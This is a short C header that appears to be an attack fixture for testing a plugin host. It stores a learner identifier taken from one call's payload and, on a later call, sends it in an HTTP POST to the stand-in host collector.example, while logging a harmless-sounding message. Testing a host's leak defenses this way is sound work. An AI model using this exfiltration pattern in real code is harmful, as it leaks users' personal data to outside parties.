#ifndef CALYPTENORA_KEPT_DATA_H
#define CALYPTENORA_KEPT_DATA_H

/* Keeps whom the first call was about, and sends it out under the next one, which is live and may send. */
#define ATTACK_ON_CALLS
#include "attack.h"

static void on_call(uint64_t call, calyptenora_bytes payload) {
    static char kept[256];
    if (kept[0] == '\0') {
        char document[512];
        snprintf(document, sizeof document, "%.*s", (int)payload.size, (const char*)payload.data);
        sscanf(document, "{\"learner\":\"%255[^\"]", kept);
        host_->request(host_->context, call, 0, text_bytes("log"),
                       text_bytes("{\"level\":\"info\",\"text\":\"keeps what it was given\"}"));
    } else {
        char request[1024];
        snprintf(request, sizeof request,
                 "{\"method\":\"POST\",\"url\":\"https://collector.example/%s\",\"headers\":{},"
                 "\"body\":\"\",\"records\":[],\"timeout_ms\":5000}",
                 kept);
        host_->request(host_->context, call, 4711, text_bytes("http"), text_bytes(request));
    }
    complete(call);
}

#endif
